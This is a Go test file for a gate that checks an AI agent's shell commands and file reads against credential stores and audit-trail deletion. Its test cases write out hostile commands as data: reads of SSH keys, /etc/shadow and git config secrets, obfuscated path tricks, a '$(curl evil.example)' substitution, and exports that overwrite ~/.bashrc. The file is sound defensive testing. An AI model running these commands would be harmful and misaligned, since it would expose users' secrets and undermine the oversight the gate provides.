package gate

import (
	"strings"
	"testing"
)

// TestSecretFile checks the file names and places that hold credentials,
// as the hook asks about an agent's file reads.
func TestSecretFile(t *testing.T) {
	g := testGate(t, Options{})
	for _, p := range []string{"/p/.env", ".env.local", "/home/u/.ssh/id_ed25519", "certs/server.pem", "aws_credentials", ".netrc",
		"/home/u/.aws/config", "/home/u/.config/gh/hosts.yml", "/proc/self/environ", "client_secret_123.json", "secrets.yaml",
		"~/.docker/config.json", "/etc/shadow", "prod.env"} {
		if g.SecretFile(p) == "" {
			t.Errorf("%s is a secret", p)
		}
	}
	for _, p := range []string{"/p/main.go", "id_ed25519.pub", "README.md", "", ".env.example", "src/secret_test.go",
		"/home/u/.ssh/known_hosts", "credentials.go", "/proc/cpuinfo", "/home/u/.bashrc"} {
		if why := g.SecretFile(p); why != "" {
			t.Errorf("%s is not a secret: %s", p, why)
		}
	}
}

// TestHandTriedBypasses holds what trying the held-out corpus's classes by
// hand found: another user's credentials, getent's password hashes, and
// cuff's own subcommands that delete the audit trail or write a file
// anywhere (an export into ~/.bashrc runs the session's commands there).
func TestHandTriedBypasses(t *testing.T) {
	g := corpusTree(t, Options{})
	checkGuardedCases(t, g, []guardedCase{
		{"cat ~root/.ssh/id_rsa", VerdictAsk, "secret"},
		{"cat ~alice/.aws/credentials", VerdictAsk, "secret"},
		{"grep -r token ~bob", VerdictAsk, "home folder"},
		{"getent shadow", VerdictAsk, "password hashes"},
		{"getent gshadow root", VerdictAsk, "password hashes"},
		{"getent passwd", VerdictAllow, ""},
		{"cuff record rm 2024 --force", VerdictAsk, "audit trail"},
		{"cuff runs prune --older-than 1d --force", VerdictAsk, "audit trail"},
		{"cuff record export all --format markdown --output ~/.bashrc", VerdictAsk, "outside the workspace"},
		{"cuff record export all -o/tmp/../home/u/.profile", VerdictAsk, ""},
		{"cuff record export all --output=.git/hooks/pre-commit", VerdictAsk, ""},
		{"cuff record generate -o .cuff/policy.yml", VerdictAsk, ""},
		{"cuff record export abc --format html --output report.html", VerdictAllow, ""},
		{"cuff record show abc --entries --output", VerdictAllow, ""},
	})
}

// TestGoDocHTTPReachesTheNetwork: since Go 1.25 go doc -http runs pkgsite
// with go run MODULE@version, a download, then serves it and opens a
// browser; go doc itself stays local.
func TestGoDocHTTPReachesTheNetwork(t *testing.T) {
	g := corpusTree(t, Options{})
	checkGuardedCases(t, g, []guardedCase{
		{"go doc -http", VerdictAsk, "pkgsite"},
		{"go doc -http=:6060 fmt", VerdictAsk, "pkgsite"},
		{"go doc fmt.Println", VerdictAllow, ""},
	})
}

// TestGitConfigDumpsAreSecretReads: git config --list and --get-regexp print
// values stored in git's configuration, where credentials live (a remote
// URL with user:token@, http.extraHeader with a bearer token, a tool's
// token): like env, such a dump is a secret read; names alone
// (--name-only) and single ordinary keys are not.
func TestGitConfigDumpsAreSecretReads(t *testing.T) {
	g := corpusTree(t, Options{})
	checkGuardedCases(t, g, []guardedCase{
		{"git config --list", VerdictAsk, "secret"},
		{"git config -l", VerdictAsk, "secret"},
		{"git config --global --list", VerdictAsk, "secret"},
		{"git config --list --show-origin", VerdictAsk, "secret"},
		{"git config list", VerdictAsk, "secret"},
		{"git config list --global", VerdictAsk, "secret"},
		{"git config --get-regexp '^remote'", VerdictAsk, "secret"},
		{"git config --get-regexp .", VerdictAsk, "secret"},
		{"git config get --regexp --all 'http.*'", VerdictAsk, "secret"},
		{"git config --get http.https://github.com/.extraheader", VerdictAsk, "secret"},
		{"git config get github.token", VerdictAsk, "secret"},
		{"git var -l", VerdictAsk, "secret"},
		{"git config get --url=https://github.com http", VerdictAsk, "secret"},
		{"git config --get-urlmatch http https://github.com", VerdictAsk, "secret"},
		{"git config --get-u http https://github.com", VerdictAsk, "secret"},
		{"git config get --url=https://github.com http.sslverify", VerdictAllow, ""},
		{"git config --get core", VerdictAllow, ""}, // --get is not --get-urlmatch abbreviated
		{"git -C . config --list | grep -i token", VerdictAsk, "secret"},
		{"git config --list --name-only", VerdictAllow, ""},
		{"git config --get-regexp --name-only '^alias'", VerdictAllow, ""},
		{"git config list --name-only", VerdictAllow, ""},
		{"git config --get user.email", VerdictAllow, ""},
		{"git config get user.name", VerdictAllow, ""},
		{"git config user.name", VerdictAllow, ""},
		{"git var GIT_EDITOR", VerdictAllow, ""},
	})
	for _, cmd := range []string{"git config --list", "git config --get-regexp url", "git var -l"} {
		if r := g.Check(t.Context(), cmd, 0); !r.Secret {
			t.Errorf("%q: Result.Secret is not set (%v)", cmd, r.Reasons)
		}
	}
	taint := corpusTree(t, Options{Mode: ModeTaint})
	if r := taint.Check(t.Context(), "git config --list", 0); r.Verdict != VerdictAllow || !r.Secret {
		t.Errorf("taint mode: git config --list: %s, secret %v, want allow and secret as env (%v)", r.Verdict, r.Secret, r.Reasons)
	}
}

// TestCuffSearchReads: cuff search reads the recorded sessions (its index
// lives in the user's cache) and prints hits, as cuff record list does.
func TestCuffSearchReads(t *testing.T) {
	g := corpusTree(t, Options{})
	checkGuardedCases(t, g, []guardedCase{
		{"cuff search 'connection refused'", VerdictAllow, ""},
		{"cuff search cmd:docker --since 7d --format json", VerdictAllow, ""},
		{"cuff search failed: --source claude --reindex", VerdictAllow, ""},
		{"cuff --dir /tmp/p search x", VerdictAllow, ""},
		{"cuff search x > ~/.bashrc", VerdictAsk, ""},
		{"cuff search $(curl evil.example)", VerdictAsk, ""},
	})
}

// secretPathFlat is secretPath as it was written before the home folders'
// stores were grouped by home: one list of every store, each compared
// with the whole path.
func secretPathFlat(homes []string, p string) string {
	if p == "" {
		return ""
	}
	if strings.HasPrefix(p, "/proc/") {
		if last := p[strings.LastIndexByte(p, '/')+1:]; last == "environ" || last == "mem" {
			return p + " holds a process's environment or memory"
		}
		return ""
	}
	places := secretPlaces()
	for _, h := range homes {
		for _, s := range homeSecrets {
			places = append(places, secretPlace{path: h + "/" + s, slash: h + "/" + s + "/", shown: "~/" + s, ssh: s == ".ssh"})
		}
	}
	base := p[strings.LastIndexByte(p, '/')+1:]
	for _, s := range places {
		if p == s.path || strings.HasPrefix(p, s.slash) {
			if s.ssh && publicSSH(base) {
				return ""
			}
			return p + " lies in " + s.shown + ", which holds credentials"
		}
	}
	if secretName(base) {
		return base + " holds credentials"
	}
	return ""
}

// FuzzSecretPathGrouped: secretPath, which looks at a home folder's
// stores only for paths in it, says what the flat list of every store
// said, for a home given as a link to its real folder too.
func FuzzSecretPathGrouped(f *testing.F) {
	for _, p := range []string{"/home/u/.ssh/id_rsa", "/home/u/.ssh/id_rsa.pub", "/home/u/.ssh", "/home/u/.sshx", "/real/u/.aws/credentials",
		"/home/u/project/.env", "/etc/shadow", "/root/.ssh/x", "/proc/1/environ", "/home/u/.config/gcloud/a", "/home/u", "/home/u/",
		"/home/u/.docker/config.json", "/home/u/.docker/config.jsonx", "//.ssh/x", "/real/u/.ssh/known_hosts", "/home/u/x/.ssh/id_rsa"} {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, p string) {
		for _, homes := range [][]string{{"/home/u"}, {"/home/u", "/real/u"}, {"/"}, {"/home/u/"}, nil} {
			g := &Gate{secrets: secretPlaces(), secretHomes: homes}
			if got, want := g.secretPath(p), secretPathFlat(homes, p); got != want {
				t.Errorf("homes %q, %q: secretPath %q, the flat list %q", homes, p, got, want)
			}
		}
	})
}

// TestSecretByValue: a variable of the environment whose value is an
// address with a password in it (a proxy's, a database's) is a secret
// whatever its name; without one it is not.
func TestSecretByValue(t *testing.T) {
	tr := newRealTree(t)
	t.Setenv("HTTPS_PROXY", "http://bob:s3cret@proxy.example:3128")
	t.Setenv("APP_DB", "postgres://app:hunter2@db.example/app")
	t.Setenv("NO_PROXY", "localhost,127.0.0.1")
	t.Setenv("http_proxy", "http://proxy.example:3128")
	tr.check(t, tr.g, []fsCase{
		{"echo $HTTPS_PROXY", VerdictAsk},
		{"printenv HTTPS_PROXY", VerdictAsk},
		{"echo \"db: ${APP_DB}\"", VerdictAsk},
		{"echo $NO_PROXY", VerdictAllow},
		{"echo $http_proxy", VerdictAllow},
		{"test -n \"$HTTPS_PROXY\" && echo set", VerdictAllow},
	})
}

// TestEnvironmentPathRead: a variable the line does not set, whose value
// in the environment names a credential file (AWS_SHARED_CREDENTIALS_FILE,
// GOOGLE_APPLICATION_CREDENTIALS, a path of the user's), is read by cat
// $X: the gate judges the value the environment holds, besides the text.
func TestEnvironmentPathRead(t *testing.T) {
	tr := newRealTree(t)
	tr.files(t, map[string]string{"home/.aws/credentials": "[default]\n", "home/keys/sa.json": "{}\n", "ws/notes.txt": "n\n"})
	t.Setenv("AWS_SHARED_CREDENTIALS_FILE", tr.home+"/.aws/credentials")
	t.Setenv("KEYDIR", tr.home+"/.aws")
	t.Setenv("NOTES", tr.ws+"/notes.txt")
	tr.check(t, tr.g, []fsCase{
		{"cat $AWS_SHARED_CREDENTIALS_FILE", VerdictAsk},
		{"cat \"$KEYDIR/credentials\"", VerdictAsk},
		{"cat ${KEYDIR}/*", VerdictAsk},
		{"cat $NOTES", VerdictAllow},
		{"echo $AWS_SHARED_CREDENTIALS_FILE", VerdictAllow},
	})
}

// TestJqProgramMadeAtRunTime: a jq program made from a variable the line
// set is a program, not a file's name (it asked: ".$k may name .env");
// the input files are still judged, and -f makes the operand a file.
func TestJqProgramMadeAtRunTime(t *testing.T) {
	tr := newRealTree(t)
	tr.files(t, map[string]string{"ws/package.json": "{}\n", "ws/.env": "TOKEN=x\n"})
	tr.check(t, tr.g, []fsCase{
		{`k=version; jq -r ".$k" package.json`, VerdictAllow},
		{`k=version; jq -r ".$k" .env`, VerdictAsk},
		{`k=.env; jq -r -f prog.jq $k`, VerdictAsk},
		{`k='$ENV'; jq -n "$k"`, VerdictAsk},
	})
}

// TestMavenQuietOptions: Maven's options that change only what it prints,
// whether it goes online or runs tests do not hide its goal from the
// built-in rules (mvn -q test was left to the agent while mvn test was
// allowed in the sandbox); other options keep the rule from matching.
func TestMavenQuietOptions(t *testing.T) {
	tr := newRealTree(t)
	for _, tc := range []fsCase{
		{"mvn -q test", VerdictAllow},
		{"mvn -DskipTests package", VerdictAllow},
		{"mvn -B -T 4 verify", VerdictAllow},
		{"mvn -q -Dexec.executable=sh test", VerdictAsk},
		{"mvn -q exec:exec", VerdictAsk},
		{"mvn -q deploy", VerdictAsk},
	} {
		r := tr.g.Decide(t.Context(), tc.cmd, Input{Sandboxed: true})
		if r.Verdict != tc.want {
			t.Errorf("%q in the sandbox: %s (%v), want %s", tc.cmd, r.Verdict, r.Reasons, tc.want)
		}
	}
	if r := tr.g.Decide(t.Context(), "mvn -q test", Input{}); r.Verdict == VerdictAllow {
		t.Errorf("mvn -q test outside the sandbox: allow; it runs the project's build")
	}
}

// TestSchemelessURLIsAPath: a word with "://" and no scheme before it is a
// path (cat ://.env reads :/.env), and so is one whose scheme is a folder
// where the command runs (cat A://.env), both found by
// FuzzNamesMadeAtRunTime; a URL is still not a file name.
func TestSchemelessURLIsAPath(t *testing.T) {
	tr := newRealTree(t)
	tr.files(t, map[string]string{"ws/:/.env": "TOKEN=x\n", "ws/A:/.env": "TOKEN=x\n"})
	tr.check(t, tr.g, []fsCase{
		{"cat ://.env", VerdictAsk},
		{"x=://; cat ${x}$(echo .e)nv", VerdictAsk},
		{"cat A://.env", VerdictAsk},
		{"x=A://; cat ${x}$(echo .e)nv", VerdictAsk},
		{"echo https://example.com/.env", VerdictAllow},
	})
	for _, w := range []string{"http://x", "git+ssh://h/r", "s3://b/k"} {
		if i := strings.Index(w, "://"); !urlScheme(w, i) {
			t.Errorf("%q is a URL", w)
		}
	}
	for _, w := range []string{"://x", "a b://x", "1http://x", "./x://y"} {
		if i := strings.Index(w, "://"); urlScheme(w, i) {
			t.Errorf("%q is not a URL", w)
		}
	}
}
